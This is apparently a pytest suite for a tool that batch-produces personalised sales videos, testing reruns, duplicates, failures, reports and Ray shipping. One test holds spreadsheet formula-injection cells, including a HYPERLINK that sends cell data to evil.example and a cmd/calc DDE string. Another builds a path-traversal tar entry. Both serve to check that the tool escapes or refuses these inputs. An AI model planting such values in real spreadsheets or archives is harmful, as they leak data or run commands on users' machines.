    assert memory["new"][:3] == ("pending", None, None)
    journal.close()
    again = BatchJournal(tmp_path / "j.sqlite")
    assert {s.row_id: (s.state, s.video_id, s.video_name, s.updated) for s in again.states()} == memory
    again.close()


def test_work_folders_of_killed_preparations_are_swept_by_the_next_one(tmp_path):
    """A worker killed mid-recording never runs its own cleanup: its folder (named by its PID) is removed later."""
    from assetprep._prepare import sweep_stale_work

    dead_pid = subprocess.Popen(["true"])
    dead_pid.wait(timeout=10)
    dead = tmp_path / f"assetprep-prep-{dead_pid.pid}-abc123"
    live = tmp_path / f"assetprep-prep-{os.getpid()}-def456"
    other = tmp_path / "assetprep-prep-oldstyle"  # not ours to judge: kept
    for folder in (dead, live, other):
        folder.mkdir()
        (folder / "bg.mp4.part").write_bytes(b"x" * 1000)
    assert sweep_stale_work(tmp_path) == 1
    assert not dead.exists() and live.is_dir() and other.is_dir()


def tool_runs(monkeypatch) -> collections.Counter:
    """How many times each tool (ffprobe, ffmpeg) runs through the project's one subprocess runner from now on."""
    tools: collections.Counter = collections.Counter()
    real_run = _process.run
    monkeypatch.setattr(_process, "run", lambda args, **kw: tools.update([Path(args[0]).name]) or real_run(args, **kw))
    return tools


# --- the pipeline ----------------------------------------------------------------------------------------------------


def test_twelve_rows_over_two_pages_record_twice_and_a_rerun_sends_nothing(world, tmp_path, monkeypatch):
    sb, run, _ = world()
    manifest = leads_manifest(tmp_path, 12)
    tools = tool_runs(monkeypatch)
    result = run(manifest, background_preset="background-720p")
    assert result.ok, result.rows
    # A recording is probed once (its check), a video once (its download) and framed once: 40 ffprobes were 14.
    assert tools == {"ffprobe": 2 + 12, "ffmpeg": 2 + 12}, tools
    assert (result.preparations, result.prepared_now) == (2, 2)  # 12 rows, 2 distinct pages: 2 recordings
    assert len(creates(sb)) == 12 and len(account(sb)) == 12
    rows = read_results(result.results_csv)
    assert [r["row"] for r in rows] == [str(n) for n in range(2, 14)]
    assert len({r["video_id"] for r in rows}) == 12 and all(r["status"] == "downloaded" for r in rows)
    assert all(r["first_name"] == f"Lead{i}" and "?" not in r["hosted_url"] for i, r in enumerate(rows))
    for i, r in enumerate(rows[:2]):  # each video sits on its own lead's page
        info = probe(r["output"])
        assert info.video and info.video.width == 1280 and info.duration and info.duration > 1
        corner = pixel(frame_rgb(r["output"], 5, 1280, 720), 1280, 20, 20)
        assert (is_red if i % 2 == 0 else is_blue)(corner), corner
    scripts = [v.data["script"] for v in account(sb)]
    assert sorted(scripts) == sorted(f"Hi Lead{i}, I looked at Company {i}." for i in range(12))
    report = result.report_html.read_text()
    assert report.count('class="card downloaded"') == 12 and "http" not in report.split("<body>")[0]

    before = len(api_calls(sb))
    again = run(manifest, background_preset="background-720p")
    assert again.ok and again.prepared_now == 0 and len(creates(sb)) == 12
    assert len(api_calls(sb)) == before  # the rerun checks the files, not the API
    assert read_results(again.results_csv) == rows

    # An edited row is a new row; the old one is reported as superseded, not silently dropped.
    write(manifest, manifest.read_text().replace("Lead3,", "Leo3,"))
    edited = run(manifest, background_preset="background-720p")
    assert edited.ok and len(creates(sb)) == 13
    assert [s["row"] for s in edited.superseded] == [5]


def test_a_lead_twice_gets_the_one_video_on_both_rows_and_its_own_copy(world, tmp_path, monkeypatch):
    """A CRM export holds a lead twice (or two leads get the same words): the whole campaign was refused ("the same
    video as row 2; remove one"). The video is made once and reported on each row, at each row's own output."""
    # A duplicate may share its first row's output (one file); another row may not.
    write(tmp_path / "same.csv", "first_name,script,output\nAna,Hi Ana.,a.mp4\nAna,Hi Ana.,a.mp4\nBo,Hi Bo.,a.mp4\n")
    with pytest.raises(ManifestError) as caught:
        load_manifest(tmp_path / "same.csv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
    assert caught.value.problems == [f"row 4, column output: {tmp_path / 'a.mp4'} is written by row 2 too"]
    sb, run, env = world()
    manifest = write(tmp_path / "dupes.csv", "first_name,email,script\nAna,ana@a.io,Hi Ana.\nBo,bo@b.io,Hi Bo.\n"
                                             "Ana,ana@a.io,Hi Ana.\nAna,ana2@a.io,Hi Ana.\n")  # fmt: skip
    plan = run(manifest, dry_run=True, rows="5").plan
    assert (plan["rows"], plan["videos"], plan["duplicates"]) == (2, 1, [{"row": 5, "same_as": "row 2"}])
    seen = []
    # Each video is probed once, by its download (three ffprobes each, ~0.12 s of CPU apiece, beside recordings),
    # and framed once for the report.
    tools = tool_runs(monkeypatch)
    result = run(manifest, on_event=seen.append)
    assert result.ok and result.counts == {"downloaded": 4} and len(creates(sb)) == 2
    assert tools == {"ffprobe": 2, "ffmpeg": 2}, tools
    # Progress counts videos (it said "0/2 done" beside a summary of 4 rows, as if rows were missing).
    assert seen[-1].line().startswith("batch: 2/2 videos done (downloaded 2)"), seen[-1].line()
    rows = read_results(result.results_csv)
    assert [r["row"] for r in rows] == ["2", "3", "4", "5"] and rows[3]["email"] == "ana2@a.io"
    first = rows[0]
    for copy in rows[2:]:
        assert (copy["video_id"], copy["hosted_url"], copy["status"]) == (first["video_id"], first["hosted_url"],
                                                                         "downloaded")  # fmt: skip
        assert copy["warnings"] == "the same video as row 2" and copy["output"] != first["output"]
        assert Path(copy["output"]).read_bytes() == Path(first["output"]).read_bytes()
        assert Path(copy["output"]).stat().st_ino == Path(first["output"]).stat().st_ino  # linked, not stored twice
    # A lost copy comes back from the row's own file: no request to the API.
    Path(rows[3]["output"]).unlink()
    before = len(api_calls(sb))
    again = run(manifest)
    assert again.counts == {"downloaded": 4} and len(api_calls(sb)) == before
    assert Path(rows[3]["output"]).read_bytes() == Path(first["output"]).read_bytes()
    assert read_results(again.results_csv) == rows
    # A copy (not a link: another file system) with other bytes of the same size is replaced, not kept for its size.
    stale = Path(rows[2]["output"])
    size = stale.stat().st_size
    stale.unlink()
    stale.write_bytes(b"\0" * size)
    assert run(manifest).counts == {"downloaded": 4} and len(api_calls(sb)) == before
    assert stale.read_bytes() == Path(first["output"]).read_bytes()
    # The command's summary names the rows with warnings (the finished batch's rerun sends nothing).
    proc = cli(env, str(manifest), "--replica", DEFAULT_REPLICA)
    assert proc.returncode == 0 and "4 rows (downloaded 4)" in proc.stdout, proc.stderr
    assert "2 row(s) with warnings (column warnings of results.csv), e.g. row 4: the same video as row 2" in proc.stdout
    assert len(api_calls(sb)) == before


def test_a_lost_journal_finds_uploads_by_head_and_still_checks_audio_length(world, gen, tmp_path):
    """Prepared files outlive a journal: a rerun finds them by HEAD without preparing again, adopts the videos by
    their default names, and a second batch over the same inputs still knows each audio file's duration (stored
    with the object), so its audio rows are submitted, not failed as 0 s long."""
    sb, run, _ = world()
    speech = gen("speech.wav", "-f", "lavfi", "-i", "sine=f=300:d=4")
    shutil.copy(speech, tmp_path / "speech.wav")
    manifest = write(tmp_path / "audio.csv", "first_name,script,audio\nAda,,speech.wav\nBo,Hi {{ first_name }}.,\n")
    first = run(manifest)
    assert first.ok, first.rows
    assert (first.preparations, first.prepared_now) == (1, 1)
    shutil.rmtree(tmp_path / "state")  # the journal is gone; S3 and the account are not
    again = run(manifest)
    assert again.ok and again.prepared_now == 0, again.rows  # found by one HEAD
    assert len(creates(sb)) == 2  # both videos adopted by their default names, none made twice
    other = run(manifest, batch_id="campaign-2", out_dir=tmp_path / "out2")  # new names, the same prepared audio
    assert other.ok and other.prepared_now == 0, other.rows
    assert len(creates(sb)) == 4
    assert {r["status"] for r in read_results(other.results_csv)} == {"downloaded"}


def test_a_moved_or_copied_manifest_does_not_pay_for_its_videos_again(world, tmp_path):
    """The batch id comes from the manifest's path: moving leads.csv to another folder (or copying it) and running
    it again made every video a second time (measured: 2 creates, then 4). Now the new batch is refused before
    anything is made, naming the batch that sent them; --batch-id says which is meant."""
    sb, run, _ = world()
    (tmp_path / "old").mkdir()
    (tmp_path / "new").mkdir()
    first = run(write(tmp_path / "old" / "leads.csv", "first_name,script\nAnn,Hi Ann.\nBob,Hi Bob.\n"))
    assert first.ok and len(creates(sb)) == 2
    moved = tmp_path / "new" / "leads.csv"
    (tmp_path / "old" / "leads.csv").rename(moved)
    for dry in (True, False):  # a dry run says it too
        with pytest.raises(ConfigError) as refused:
            run(moved, dry_run=dry)
        assert refused.value.message.startswith(f"2 of the 2 rows of this manifest were already sent by batch "
                                                f"{first.batch_id} (manifest {tmp_path / 'old' / 'leads.csv'})")  # fmt: skip
        assert f"pass --batch-id {first.batch_id}" in refused.value.hint
    assert len(creates(sb)) == 2 and [p.name for p in first.batch_dir.parent.iterdir()] == [first.batch_id]
    same = run(moved, batch_id=first.batch_id)  # going on with that batch: its videos, nothing new
    assert same.ok and len(creates(sb)) == 2
    write(moved, "first_name,script\nAnn,Hi Ann.\nBob,Hi Bob.\nCy,Hi Cy.\n")  # a lead added: still refused
    with pytest.raises(ConfigError, match="2 of the 3 rows"):
        run(moved)
    again = run(moved, batch_id="second-wave", out_dir=tmp_path / "wave2")  # new videos on purpose
    assert again.ok and len(creates(sb)) == 5
    # One output folder, one batch: another batch there would replace its results.csv, report and same-named videos.
    sheet = (first.out_dir / "results.csv").read_bytes()
    for dry in (True, False):
        with pytest.raises(ConfigError) as taken:
            run(moved, batch_id="third", out_dir=first.out_dir, dry_run=dry)
        assert taken.value.message.startswith(f"--out {first.out_dir} holds the results and videos of batch "
                                              f"{first.batch_id} (manifest {tmp_path / 'old' / 'leads.csv'})")  # fmt: skip
    assert (first.out_dir / "results.csv").read_bytes() == sheet and len(creates(sb)) == 5
    # Two batches that both passed that check at once: the claim itself is exclusive, the second one is refused.
    from assetprep.batch import _claim_out_dir

    race = tmp_path / "race"
    _claim_out_dir(race, "one", moved)
    _claim_out_dir(race, "one", moved)  # its own folder, again
    with pytest.raises(ConfigError, match=f"--out {race} holds the results and videos of batch one"):
        _claim_out_dir(race, "two", moved)
    assert [p.name for p in race.iterdir()] == [".assetprep-batch"]  # no temp file left behind


_DECODED_POSTERS = """async () => Promise.all([...document.querySelectorAll('.card .poster')].map(async el => {
    const m = getComputedStyle(el).backgroundImage.match(/^url\\("(.+)"\\)$/);
    if (!m) return 0;
    const img = new Image(); img.src = m[1];
    try { await img.decode(); } catch (e) { return 0; }
    return img.naturalWidth;
}))"""


def test_failures_stay_in_their_row_and_the_report_shows_every_card(world, site, tmp_path):
    sb, run, _ = world()
    write(tmp_path / "corrupt.wav", "RIFF, but not really a wave file" * 10)
    speech = tmp_path / "speech.wav"
    subprocess.run(["espeak-ng", "-w", str(speech), "Hello there. This sentence is long enough for Tavus, which "
                    "wants at least three seconds of speech in every audio file."], check=True, timeout=60)  # fmt: skip
    short = tmp_path / "short.wav"
    subprocess.run(["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "sine=f=440:d=1", str(short)], check=True, timeout=60)
    manifest = write(tmp_path / "mixed.jsonl", "\n".join(json.dumps(r) for r in [
        {"name": "good", "script": "Hi {{ name }}", "background": str(PAGES / "short.html"), "background_seconds": 3,
         "scroll": "smooth"},
        {"name": "404", "script": "Hi {{ name }}", "background": f"{site}/no-such-page.html"},
        {"name": "corrupt", "audio": "corrupt.wav"},
        {"name": "broken", "script": "Hi {{ name }}", "replica_id": BROKEN_REPLICA},
        {"name": "audio", "audio": "speech.wav"},
        {"name": "short", "audio": "short.wav"},
    ]) + "\n")  # fmt: skip
    result = run(manifest, background_preset="background-720p")
    assert not result.ok
    by_name = {r["name"]: r for r in result.rows}
    assert by_name["good"]["status"] == by_name["audio"]["status"] == "downloaded"
    assert by_name["404"]["status"] == "failed" and "answered HTTP 404" in by_name["404"]["error"]
    assert by_name["corrupt"]["status"] == "failed" and "corrupt.wav" in by_name["corrupt"]["error"]
    assert by_name["broken"]["status"] == "failed" and "replica_in_error_state" in by_name["broken"]["error"]
    assert by_name["short"]["status"] == "failed" and "shorter than 3 s" in by_name["short"]["error"]
    assert len(creates(sb)) == 3  # good, audio, broken: the three that failed before submit cost nothing
    # The recording's warning reaches the row it served (it was dropped): short.html has nothing to scroll.
    assert (
        by_name["good"]["warnings"]
        == "background: the page is not taller than the viewport: recorded without scrolling"
        and by_name["audio"]["warnings"] == ""
    )

    # The report in a real browser: one card per row, every image loaded (posters or background frames).
    from playwright.sync_api import sync_playwright

    from assetprep.record import find_chromium

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=find_chromium(pw), timeout=30000)
        page = browser.new_page()
        page.goto(result.report_html.as_uri(), timeout=30000)
        widths = page.evaluate(_DECODED_POSTERS)
        texts = page.eval_on_selector_all(".card", "cards => cards.map(c => c.innerText)")
        shot = page.screenshot(full_page=True)
        browser.close()
    assert len(widths) == 6 and all(w > 0 for w in widths), widths
    assert sum("failed" in t for t in texts) == 4 and len(shot) > 10_000
    assert "answered HTTP 404" in result.report_html.read_text()
    assert "recorded without scrolling" in result.report_html.read_text()

    # --retry-failed submits only the failed rows again (the broken replica fails again, under a new name).
    again = run(manifest, background_preset="background-720p", retry_failed=True)
    names = [c.video_name for c in account(sb)]
    assert again.counts == {"downloaded": 2, "failed": 4}
    assert sum(n.endswith("-retry1") for n in names) == 1 and len(creates(sb)) == 4


def test_a_hung_lead_site_fails_its_row_at_page_timeout_which_is_not_part_of_what_is_made(world, tmp_path):
    """A lead list's dead or hung sites held the one recording slot of a 2-core machine for a minute each."""
    from assetprep.batch import S3Target, plan_preparations

    sb, run, _ = world()
    hung = socket.socket()
    hung.bind(("127.0.0.1", 0))
    hung.listen(8)  # connections are made and never answered
    manifest = write(tmp_path / "hung.csv", f"script,background\nHi,http://127.0.0.1:{hung.getsockname()[1]}/\n")
    try:
        result = run(manifest, background_preset="background-720p", page_timeout=3)
    finally:
        hung.close()
    [row] = result.rows
    assert row["status"] == "failed" and "no page came within the timeout" in row["error"], row
    assert result.seconds < 40 and creates(sb) == []  # at the default 60 s this run took over a minute
    # A rerun with another timeout finds the same preparations (made before, or failed): nothing is made again.
    rows = load_manifest(manifest, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path).rows
    keys = [plan_preparations(rows, settings=PublishSettings(runs_dir=tmp_path / "runs"),
                              options=BatchOptions(page_timeout=t), s3=S3Target(bucket="b", prefix="p"),
                              keep_dir=None)[0] for t in (3, 60)]  # fmt: skip
    assert list(keys[0]) == list(keys[1]) and [p.task.background.timeout for p in keys[0].values()] == [3]


def test_a_lead_site_that_is_down_is_recorded_again_later_in_the_run_and_by_any_rerun(
    world, tmp_path, caplog, monkeypatch
):
    """A lead's site restarting (refused, 503) failed its rows at once, and only --retry-failed (which also pays
    again for rows whose video failed) tried it again. Now it is recorded again after a pause; still down after the
    last try, its rows fail, and any rerun makes them."""
    import functools
    import http.server

    from _media import http_server

    from assetprep import batch
    from assetprep._server import ThreadedServer

    monkeypatch.setattr(batch, "_SITE_PAUSES", (0.5, 1.0))
    sb, run, _ = world()
    asked: list[int] = []

    class Restarting(http.server.SimpleHTTPRequestHandler):  # 503 twice, then the page
        def do_GET(self) -> None:
            if self.path.startswith("/short.html"):
                asked.append(1)
                if len(asked) <= 2:
                    self.send_error(503, "restarting")
                    return
            super().do_GET()

        def log_message(self, *args: object) -> None:
            pass

    down = socket.socket()
    down.bind(("127.0.0.1", 0))
    down_port = down.getsockname()[1]
    down.close()  # nothing listens there: connections are refused
    with http_server(functools.partial(Restarting, directory=str(PAGES))) as flaky:
        manifest = write(tmp_path / "sites.csv", "name,script,background,background_seconds\n"
                         f"flaky,Hi,http://127.0.0.1:{flaky.server_port}/short.html,2\n"
                         f"down,Hi,http://127.0.0.1:{down_port}/short.html,2\n")  # fmt: skip
        with caplog.at_level(logging.WARNING, logger="assetprep"):
            first = run(manifest, background_preset="background-720p")
    by_name = {r["name"]: r for r in first.rows}
    assert by_name["flaky"]["status"] == "downloaded" and len(asked) == 3, (by_name, asked)
    assert caplog.text.count("answered HTTP 503; trying again in") == 2
    assert by_name["down"]["status"] == "failed"
    assert "connection refused" in by_name["down"]["error"] and "tried 3 times" in by_name["down"]["error"]
    assert len(creates(sb)) == 1

    # The site is back: a plain rerun (no --retry-failed) makes that row, and nothing else.
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", down_port), functools.partial(Quiet, directory=str(PAGES)))
    with ThreadedServer(server):
        again = run(manifest, background_preset="background-720p")
    assert again.ok and again.counts == {"downloaded": 2}, again.rows
    assert len(creates(sb)) == 2 and len(asked) == 3  # the flaky site was not recorded again


def test_the_report_holds_each_distinct_picture_once_and_frames_each_background_once(gen, tmp_path, monkeypatch):
    """300 rows that failed over 2 backgrounds took an ffmpeg and 8 KB each (0.3 s a row at the end of the batch)."""
    import assetprep.batch as batch_module

    clips = [gen(f"bg{i}.mp4", "-f", "lavfi", "-i", f"testsrc2=s=640x360:r=10:d=2,hue=h={90 * i}",
                 "-c:v", "libx264", "-pix_fmt", "yuv420p") for i in range(2)]  # fmt: skip
    posters = []
    for i in range(3):  # downloaded rows: their own poster files
        posters.append(tmp_path / f"poster{i}.jpg")
        subprocess.run(["ffmpeg", "-v", "error", "-f", "lavfi", "-i", f"color=c=0x{40 * i:02x}80c0:s=320x180",
                        "-frames:v", "1", str(posters[-1])], check=True, timeout=60)  # fmt: skip
    framed = []
    real = batch_module.poster_jpeg
    monkeypatch.setattr(batch_module, "poster_jpeg", lambda clip: framed.append(clip) or real(clip))
    rows = [{"row": n + 2, "status": "failed", "error": "render failed", "video_name": f"v{n}",
             "_background": str(clips[n % 2])} for n in range(300)]  # fmt: skip
    rows += [{"row": 302 + i, "status": "downloaded", "video_name": f"ok{i}", "_poster": str(p)}
             for i, p in enumerate(posters)]  # fmt: skip
    rows += [{"row": 305, "status": "failed", "error": "404", "video_name": "no picture"}]
    report = batch_module.write_report(tmp_path / "report.html", "t", rows)
    text = report.read_text()
    assert sorted(framed) == sorted(map(str, clips))  # one frame per background
    assert text.count("data:image/") == 6  # 2 frames + 3 posters + the placeholder, each once
    assert text.count('class="poster ') == 304 and len(text) < 200_000
    assert text.count('class="poster p0"') == 150 and text.count('class="poster p1"') == 150

    from playwright.sync_api import sync_playwright

    from assetprep.record import find_chromium

    with sync_playwright() as pw:  # the classes reach the right cards in a real browser
        browser = pw.chromium.launch(executable_path=find_chromium(pw), timeout=30000)
        page = browser.new_page()
        page.goto(report.as_uri(), timeout=30000)
        widths = page.evaluate(_DECODED_POSTERS)
        browser.close()
    assert widths == [320] * 303 + [320], widths[-5:]


def test_a_failed_download_is_fetched_again_by_a_rerun_never_made_again(world, tmp_path):
    """The videos are made, then their downloads fail (a file where the output folder goes, put there after the
    checks). The rows fail with the reason; a plain rerun downloads them, and --retry-failed does not pay for new
    videos. A video that is gone by then fails again; only --retry-failed makes it anew."""
    sb, run, _ = world()
    manifest = write(tmp_path / "m.csv", "first_name,script,output\n"
                     "Ann,Hi {{ first_name }}.,sub/ann.mp4\nBob,Hi {{ first_name }}.,sub/bob.mp4\n")  # fmt: skip
    out = tmp_path / "videos"
    blocker = out / "sub"

    def block(_progress):
        if not blocker.is_file():
            out.mkdir(parents=True, exist_ok=True)
            if blocker.is_dir():  # made (empty) by the check that the output folders can be written
                blocker.rmdir()
            blocker.write_text("not a folder")

    first = run(manifest, out_dir=out, on_event=block)
    assert first.counts == {"failed": 2} and len(creates(sb)) == 2
    assert all(r["error"].startswith("download: ") and r["video_id"] for r in first.rows), first.rows
    blocker.unlink()
    again = run(manifest, out_dir=out, rows="2")
    assert again.ok and len(creates(sb)) == 2, again.rows
    assert again.rows[0]["video_id"] == first.rows[0]["video_id"]
    assert probe(out / "sub" / "ann.mp4").video.frames > 10
    # Row 3: its video is deleted before the retry; the download's rerun says so, --retry-failed makes it again.
    with TavusClient(api_key=sb.api_key, base_url=sb.base_url) as c:
        c.delete_video(first.rows[1]["video_id"], hard=True)
    gone = run(manifest, out_dir=out)
    assert gone.counts == {"downloaded": 1, "failed": 1} and len(creates(sb)) == 2, gone.rows
    retried = run(manifest, out_dir=out, retry_failed=True)
    assert retried.ok and len(creates(sb)) == 3, retried.rows
    assert retried.rows[1]["video_id"] != first.rows[1]["video_id"] and probe(out / "sub" / "bob.mp4").video.frames > 10


def test_a_rerun_hashes_only_outputs_that_were_touched_and_fetches_only_changed_ones(world, tmp_path, monkeypatch):
    """A campaign of thousands rerun after adding rows must not read every finished video again: a file left as it
    was (size, mtime, inode) is trusted; a touched one is hashed; a changed one is downloaded again."""
    import assetprep.batch as batch_module

    sb, run, _ = world()
    manifest = write(tmp_path / "m.csv", "first_name,script\nAnn,Hi {{ first_name }}.\nBob,Hi {{ first_name }}.\n")
    first = run(manifest, out_dir=tmp_path / "out")
    assert first.ok, first.rows
    ann, bob = (Path(r["output"]) for r in first.rows)
    original = ann.read_bytes()
    hashed: list[Path] = []
    real = batch_module.file_sha256
    monkeypatch.setattr(batch_module, "file_sha256", lambda p: hashed.append(Path(p)) or real(p))
    assert run(manifest, out_dir=tmp_path / "out").ok and hashed == []  # untouched: nothing read
    os.utime(bob)  # touched, same bytes: hashed once, kept
    damaged = ann.with_suffix(".tmp")
    damaged.write_bytes(bytes(len(original)))  # same size, other bytes, a new inode
    damaged.replace(ann)
    again = run(manifest, out_dir=tmp_path / "out")
    assert again.ok and ann.read_bytes() == original and len(creates(sb)) == 2
    assert sorted(hashed) == sorted([ann, ann, bob])  # the check of each, then Ann's fresh download
    hashed.clear()
    assert run(manifest, out_dir=tmp_path / "out").ok and hashed == []  # and both are trusted again


def test_a_leads_own_status_or_error_column_is_kept_in_the_results_beside_the_batchs(world, tmp_path):
    """Also: an Excel export in a ';' locale (a BOM, ';', CRLF, "Script" capitalised) gets its results.csv written
    the same way, so Excel opens it into columns (it was ',' without a BOM: one column of text)."""
    sb, run, _ = world()
    manifest = tmp_path / "crm.csv"
    manifest.write_bytes(codecs.BOM_UTF8 + b"first_name;status;error;row_id;Script\r\n"
                         b"Ann;customer;none;A-1;Hi {{ first_name }}.\r\nBob;lead;bounced;B-2;Hi {{ first_name }}.\r\n")  # fmt: skip
    result = run(manifest, out_dir=tmp_path / "out")
    assert result.ok, result.rows
    data = result.results_csv.read_bytes()
    assert data.startswith(codecs.BOM_UTF8 + b"first_name;status (input);") and data.count(b"\r\n") == 3
    rows = read_results(result.results_csv, ";")
    assert list(rows[0])[:6] == ["first_name", "status (input)", "error (input)", "row_id (input)", "Script", "row"]
    assert [(r["status (input)"], r["error (input)"], r["row_id (input)"]) for r in rows] == [
        ("customer", "none", "A-1"), ("lead", "bounced", "B-2")]  # fmt: skip
    assert [(r["status"], r["error"]) for r in rows] == [("downloaded", ""), ("downloaded", "")]
    assert [r["status (input)"] for r in result.rows] == ["customer", "lead"]  # --json gives the same
    # The input column keeps the template; script_sent is what each lead hears, as Tavus got it.
    assert [(r["Script"], r["script_sent"]) for r in rows] == [("Hi {{ first_name }}.", "Hi Ann."),
                                                              ("Hi {{ first_name }}.", "Hi Bob.")]  # fmt: skip
    assert sorted((v.data or {}).get("script") for v in account(sb)) == ["Hi Ann.", "Hi Bob."]
    assert list(rows[0])[-1] == "script_sent"
    assert len(creates(sb)) == 2


def test_a_leads_cell_that_a_spreadsheet_would_run_as_a_formula_is_text_in_the_results(world, tmp_path):
    sb, run, _ = world()
    cells = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+49 30 1234",
             "-2+3", "\tx=1", "-5", "+1.5", "2e3", "Acme = best", ""]  # fmt: skip
    manifest = tmp_path / "crm.jsonl"
    manifest.write_text(
        "".join(json.dumps({"company": c, "script": f"Hi team {i}."}) + "\n" for i, c in enumerate(cells))
    )
    result = run(manifest, out_dir=tmp_path / "out")
    assert result.ok, result.rows
    written = [r["company"] for r in read_results(result.results_csv)]
    assert written == ["'" + c for c in cells[:5]] + cells[5:]  # text; numbers and plain text as they were
    assert [r.get("company", "") for r in result.rows] == cells  # --json keeps the lead's value
    assert len(creates(sb)) == len(cells)


def test_what_a_finished_ray_task_says_reaches_its_rows_and_a_lost_one_is_for_a_rerun():
    """Ray giving up on a task (its workers killed MAX_RETRIES + 1 times, the cluster gone) failed its rows as if the
    row were wrong: only --retry-failed tried them again. Now such a failure is the "cluster" step, which any rerun
    makes again; an error the node reports keeps its own step (none for a bad input)."""
    from concurrent.futures import Future

    from assetprep._prepare import retry_step
    from assetprep._ray import RayTaskFailed, _settle

    def settled(outcome):
        ray_side, out = Future(), Future()
        if isinstance(outcome, Exception):
            ray_side.set_exception(outcome)
        else:
            ray_side.set_result(outcome)
        _settle(out, "background", ray_side)
        return out.exception()

    lost = settled(RuntimeError("WorkerCrashedError: the worker died\ntraceback ..."))
    assert isinstance(lost, RayTaskFailed) and retry_step(lost) == "cluster"
    assert str(lost).startswith("the Ray task preparing background failed: RuntimeError: WorkerCrashedError")
    down = settled({"error": "cannot load https://x.example/: connection refused [on node 1]", "step": "website"})
    assert retry_step(down) == "website"
    bad = settled({"error": "not a media file [on node 1]", "step": None})
    assert retry_step(bad) is None and not bad.transient


def test_the_local_inputs_a_ray_node_must_see_at_the_same_path_and_size(tmp_path):
    from assetprep._prepare import PrepTask, S3Target
    from assetprep._ray import local_inputs, unseen_inputs

    (tmp_path / "site").mkdir()
    page = write(tmp_path / "site" / "index.html", "<h1>hi</h1>")
    audio = tmp_path / "anna.wav"
    audio.write_bytes(b"RIFF" + bytes(40))
    s3 = S3Target(bucket="b")
    tasks = [PrepTask(key=f"{i}" * 64, kind=kind, source=str(src), s3=s3) for i, (kind, src) in
             enumerate([("background", page.parent), ("audio", audio), ("background", "https://acme.com")])]  # fmt: skip
    files = local_inputs(tasks)
    assert files == {str(page.parent): -1, str(audio): 44}  # URLs are fetched by the node itself
    assert unseen_inputs(files) == []
    audio.write_bytes(b"RIFF")  # another file under that path on "another machine"
    (page.parent / "index.html").unlink()
    page.parent.rmdir()
    assert unseen_inputs(files) == [str(page.parent), str(audio)]


def test_a_local_page_travels_to_ray_nodes_with_its_folder_once_and_a_huge_folder_stays(s3_client, tmp_path,
                                                                                        monkeypatch):  # fmt: skip
    """A local page's assets are files beside it: a node on another machine needs the folder, not just the page."""
    from assetprep import _prepare
    from assetprep._prepare import PrepTask, S3Target, _fetch_shipped, ship_input, shippable
    from assetprep.errors import StorageError

    site = tmp_path / "site"
    (site / "img").mkdir(parents=True)
    write(site / "index.html", '<link rel="stylesheet" href="style.css"><img src="img/dot.png">')
    write(site / "style.css", "body { background: green }")
    (site / "img" / "dot.png").write_bytes(bytes(range(256)) * 4)
    write(site / ".env", "API_KEY=secret")  # never served, never sent
    (site / ".git").mkdir()
    write(site / ".git" / "config", "[core]")
    write(site / "notes.docx", "not a web asset")
    target = S3Target(bucket=TEST_BUCKET, prefix="pagetest")
    by_folder = PrepTask(key="a" * 64, kind="background", source=str(site), s3=target)
    by_file = PrepTask(key="b" * 64, kind="background", source=str(site / "index.html"), s3=target)
    assert shippable(by_folder) and shippable(by_file)
    sent = ship_input(by_folder, s3_client)
    assert sent.shipped.page == "" and sent.shipped.key.endswith("/site.tar")
    again = ship_input(by_file, s3_client)  # the same folder: the same archive, the same object
    assert again.shipped.key == sent.shipped.key and again.shipped.page == "index.html"
    for task, node in ((sent, tmp_path / "node1"), (again, tmp_path / "node2")):
        node.mkdir()
        got = _fetch_shipped(task, task.shipped, s3_client, node)
        folder = got if task.shipped.page == "" else got.parent
        assert sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()) == [
            "img/dot.png", "index.html", "style.css"]  # fmt: skip
        assert all((folder / n).read_bytes() == (site / n).read_bytes() for n in ("index.html", "img/dot.png"))
        assert not list(node.glob("*.tar"))  # the archive itself is not kept
    # An archive that is not what the driver packs (a name that climbs out of the folder) is refused, not unpacked.
    import hashlib
    import io
    import tarfile

    evil = io.BytesIO()
    with tarfile.open(fileobj=evil, mode="w") as tar:
        info = tarfile.TarInfo("../escaped.html")
        info.size = 2
        tar.addfile(info, io.BytesIO(b"hi"))
    s3_client.put_object(Bucket=TEST_BUCKET, Key="pagetest/evil.tar", Body=evil.getvalue())
    forged = sent.shipped.model_copy(update={"key": "pagetest/evil.tar", "size": len(evil.getvalue()),
                                             "sha256": hashlib.sha256(evil.getvalue()).hexdigest()})  # fmt: skip
    (tmp_path / "node3").mkdir()
    with pytest.raises(StorageError, match="not a file of a page's folder"):
        _fetch_shipped(sent, forged, s3_client, tmp_path / "node3")
    assert not (tmp_path / "escaped.html").exists()
    # A page saved into a big folder (~/Downloads) does not travel: every node must see it, as before.
    monkeypatch.setattr(_prepare, "PAGE_FOLDER_MAX_FILES", 2)
    assert not shippable(by_folder) and not shippable(by_file)


def test_report_cards_name_the_lead_put_failures_first_and_show_the_script(tmp_path):
    """Cards were titled with video names (hashes, for most) in row order, without what the lead hears."""
    from assetprep.batch import card_columns, write_report

    def row(n, status, **cells):
        return {"row": n, "status": status, "video_name": f"v{n}-3f9a", "video_id": "", "error": "",
                "script_sent": f"Hi {cells.get('First Name', 'there')}, I saw your site.", **cells}  # fmt: skip

    rows = [row(2, "downloaded", **{"First Name": "Ann", "Last Name": "Lee", "Company": "Acme", "Script": "Hi"}),
            row(3, "failed", **{"First Name": "Bob", "Last Name": "Roe", "Company": "Globex", "Script": "Hi"}),
            row(4, "downloaded", **{"First Name": "Cid", "Company": "Initech", "Script": "Hi"})]  # fmt: skip
    columns = ["Script", "Company", "First Name", "Last Name"]
    assert card_columns(columns, rows) == ["First Name", "Last Name", "Company"]
    text = write_report(tmp_path / "r.html", "t", rows, card_columns(columns, rows)).read_text()
    assert [m for m in __import__("re").findall(r"<h3>([^<]*)</h3>", text)] == [
        "Bob · Roe · Globex", "Ann · Lee · Acme", "Cid · Initech"]  # fmt: skip
    assert "“Hi Bob, I saw your site.”" in text
    # No name or company column: the first columns of plain text (not sites, addresses or numbers); or as named.
